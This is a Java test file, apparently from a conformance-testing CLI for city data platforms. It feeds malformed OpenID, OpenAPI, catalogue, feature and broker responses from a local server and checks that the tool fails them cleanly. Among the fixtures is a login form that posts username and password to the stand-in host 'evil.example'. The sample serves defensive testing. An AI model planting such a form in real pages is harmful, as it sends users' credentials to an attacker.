package org.tsunagaru.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.tsunagaru.features.http.Json;
import org.tsunagaru.reference.ReferencePlatform;
import tools.jackson.databind.JsonNode;

/** What a platform says of itself may be anything, and is never a fault of the tool. */
@Timeout(120)
class HostileFunctionsTest {

  private static final Map<String, List<String>> SAID =
      Map.of(
          "/auth/.well-known/openid-configuration",
          List.of(
              "{\"issuer\":\"x\",\"token_endpoint\":\"y\",\"jwks_uri\":\"https://keys.elsewhere.example/k\"}",
              "{\"issuer\":1,\"jwks_uri\":\"http://[bad\",\"authorization_endpoint\":\"/auth/page?x=1\",\"token_endpoint\":\"/auth/token\",\"code_challenge_methods_supported\":{\"a\":[\"S256\"]}}",
              "[[[["),
          "/auth/page",
          List.of(
              "",
              "<form method=post action='//evil.example'><input name=username><input type=password>",
              ""),
          "/openapi.json",
          List.of(
              "{\"openapi\":\"3.0.3\",\"servers\":[{\"url\":\"mailto:x\"},{\"url\":\"http://[bad\"}],\"paths\":{\"/a b/{c}\":{\"get\":{\"responses\":{}}}}}",
              "{\"openapi\":\"3.1.0\",\"info\":{\"termsOfService\":\"http://[bad/\"},\"paths\":{\"/files\":{\"get\":{\"responses\":{\"200\":{\"content\":{\"application/json\":{\"schema\":{\"$ref\":\"#/nowhere\"}}}}}}}}}",
              "{\"openapi\":\"3.0.3\",\"servers\":7,\"paths\":[1,{\"get\":2}]}"),
          "/api/3/action/package_search",
          List.of(
              "{\"result\":{\"count\":1,\"results\":[{\"title\":null,\"resources\":[{\"format\":\"OpenAPI\",\"url\":\"http://[bad\"},{\"format\":{},\"url\":\"https://elsewhere.example/x\"},7]}]}}",
              "{\"result\":{\"count\":9999999,\"results\":[{}]}}",
              "{\"result\":{\"results\":[{\"extras\":7,\"resources\":[{\"schema\":\"/schema\",\"url\":\"/schema\",\"caddec_resource_type\":[]}]}]}}"),
          "/schema",
          List.of("7", "[[[[", "{\"$ref\":\"#\",\"pattern\":\"((((\",\"type\":{}}"),
          "/catalog.jsonld",
          List.of(
              "{\"@type\":[7,\"Dataset\"],\"@context\":\"https://elsewhere.example/c\"}",
              "<html>",
              "[[[["),
          "/features",
          List.of(
              "{\"links\":[7,{\"rel\":\"data\",\"href\":\"http://[bad\"},{\"rel\":\"conformance\",\"href\":\"https://elsewhere.example/\"}]}",
              "{\"links\":{}}",
              ""),
          "/features/collections",
          List.of(
              "{\"collections\":[{\"id\":\"a\",\"extent\":{\"spatial\":{\"bbox\":[[1,2,\"x\",4]]}}},7,{\"id\":\"a b/\"}]}",
              "{\"collections\":[{\"id\":\"a\",\"crs\":7,\"extent\":{\"spatial\":{\"bbox\":[[0,0,1,1]],\"crs\":[]}}}]}",
              "{\"collections\":7}"),
          "/features/collections/a/items",
          List.of(
              "{\"type\":\"FeatureCollection\",\"features\":[7,null,{\"id\":{},\"geometry\":{\"coordinates\":[[\"x\"],7]}}]}",
              "{\"features\":[{\"id\":1,\"geometry\":{\"type\":\"Point\",\"coordinates\":[1]}}]}",
              "[[[["),
          "/health",
          List.of("<html>well</html>", "", "[1"));

  /** What another city gives for a token. */
  private static final List<String> TOKENS =
      List.of(
          "{\"access_token\":7,\"expires_in\":\"never\"}",
          "{\"access_token\":\"a.b.c\",\"token_type\":{}}",
          "{\"access_token\":\"eyJhbGciOiJFUzI1NiJ9.e30.AAAA\"}");

  @TempDir private Path folder;

  @ParameterizedTest
  @ValueSource(ints = {0, 1, 2})
  void whatever_it_says_is_judged_or_cannot_be_told(int which) throws IOException {
    HttpServer server =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 50);
    server.createContext("/", exchange -> answer(exchange, which));
    server.start();
    try (ReferencePlatform platform = ReferencePlatform.start(0)) {
      String odd = "http://127.0.0.1:" + server.getAddress().getPort();
      Path file = folder.resolve("p.yaml");
      Files.writeString(folder.resolve("secret.txt"), "secret");
      Files.writeString(
          file,
          """
          platform: { name: Odd }
          endpoints: { ngsi-ld: "%1$s/ngsi-ld/v1", openapi: "%2$s/openapi.json", issuer: "%2$s/auth", catalogue: "%2$s/api/3/action", dcat: "%2$s/catalog.jsonld", features: "%2$s/features", health: "%2$s/health" }
          access: { trusted-city: { token-url: "%2$s/next/token", clients: { writer: { client-id: a, client-secret: "${file:secret.txt}" } } }, login: { client-id: a, redirect-uri: "http://127.0.0.1:1/b" }, people: { resident: { user: a, password: "${file:secret.txt}" } } }
          claims: { profile: city-os-data-exchange, ngsi-ld: "1.8.1", classes: { city-api-publication: true, city-api-authentication: true, city-data-catalogue: true, city-api-operation: true, city-geospatial: true } }
          """
              .formatted(platform.origin(), odd));
      Cli test =
          Cli.run(
              "test",
              "--platform=" + file,
              "--requirement=CITY-SL-01,CITY-SL-02,CITY-SL-03,CITY-SL-09,CITY-SL-10,CITY-SL-11,CITY-AU-02,XCH-02,CITY-ED-06,CITY-ED-13,CITY-DM-35,CITY-DM-37,CITY-DM-38,CITY-DM-39,CITY-DM-40,CITY-DM-41,CITY-DM-42,CITY-OP-04",
              "--out=" + folder.resolve("out"));
      assertThat(test.code()).as(test.all()).isEqualTo(Exit.NOT_CONFORMANT);
      JsonNode counts =
          Json.read(Files.readString(folder.resolve("out/results.json"))).path("counts");
      assertThat(counts.path("harnessError").asInt(-1)).as(test.all()).isZero();
      assertThat(counts.path("failed").asInt(-1)).isPositive();
    } finally {
      server.stop(0);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "[1,null,{\"id\":7,\"type\":[]},{\"id\":{},\"waterLevel\":{\"value\":{\"value\":[]}}}]",
        "{\"type\":\"EntityTypeList\",\"typeList\":[\"A\",7,null,\"\\u0000\"],\"id\":1,\"attrs\":7,\"attributeDetails\":[[]],\"waterLevel\":[7]}",
        "{\"type\":\"Feature\",\"properties\":7,\"geometry\":[[]],\"id\":\"x\",\"location\":{\"type\":\"GeoProperty\",\"value\":{\"value\":{\"object\":null}}},\"refDevice\":{\"type\":\"Relationship\",\"object\":{\"a\":[1]}}}",
        "[\"A\"]",
        "[[[[",
        ""
      })
  void whatever_a_broker_answers_is_judged_or_cannot_be_told(String said) throws IOException {
    HttpServer server =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 50);
    server.createContext("/", exchange -> say(exchange, said));
    server.start();
    try {
      Path file = folder.resolve("b.yaml");
      Files.writeString(
          file,
          """
          platform: { name: Odd }
          endpoints: { ngsi-ld: "%1$s/ngsi-ld/v1", ngsi-v2: "%1$s/v2" }
          limits: { settle-seconds: 1, notification-seconds: 1 }
          claims: { profile: city-os-data-exchange, ngsi-ld: "1.8.1", ngsi-v2: "2.0", classes: { city-data-linking: true, city-standard-data: true, city-data-mediation: true } }
          """
              .formatted("http://127.0.0.1:" + server.getAddress().getPort()));
      Cli test =
          Cli.run(
              "test",
              "--platform=" + file,
              "--requirement=CITY-DM-14,CITY-DM-15,CITY-DM-16,CITY-DM-17,CITY-DM-18,CITY-DM-19,CITY-DM-21,CITY-DM-22,CITY-DM-24,CITY-DM-29,CITY-DM-30,CITY-DM-34,CITY-DM-50,CITY-SL-04,CITY-SL-12",
              "--out=" + folder.resolve("out"));
      assertThat(test.code()).as(test.all()).isNotEqualTo(Exit.OK).isNotEqualTo(Exit.TOOL_FAULT);
      JsonNode counts =
          Json.read(Files.readString(folder.resolve("out/results.json"))).path("counts");
      assertThat(counts.path("harnessError").asInt(-1)).as(test.all()).isZero();
    } finally {
      server.stop(0);
    }
  }

  private static void say(HttpExchange exchange, String said) throws IOException {
    try (exchange) {
      byte[] body = said.getBytes(StandardCharsets.UTF_8);
      exchange.getRequestBody().readAllBytes();
      exchange.getResponseHeaders().add("Content-Type", "application/json");
      boolean empty = body.length == 0;
      exchange.sendResponseHeaders(empty ? 204 : 200, empty ? -1 : body.length);
      exchange.getResponseBody().write(body);
    }
  }

  private static void answer(HttpExchange exchange, int which) throws IOException {
    try (exchange) {
      String path = exchange.getRequestURI().getPath();
      List<String> said = path.equals("/next/token") ? TOKENS : SAID.getOrDefault(path, List.of());
      byte[] body = (said.isEmpty() ? "{}" : said.get(which)).getBytes(StandardCharsets.UTF_8);
      exchange.getResponseHeaders().add("Content-Type", "application/json");
      exchange.sendResponseHeaders(said.isEmpty() ? 404 : 200, body.length == 0 ? -1 : body.length);
      exchange.getResponseBody().write(body);
    }
  }
}
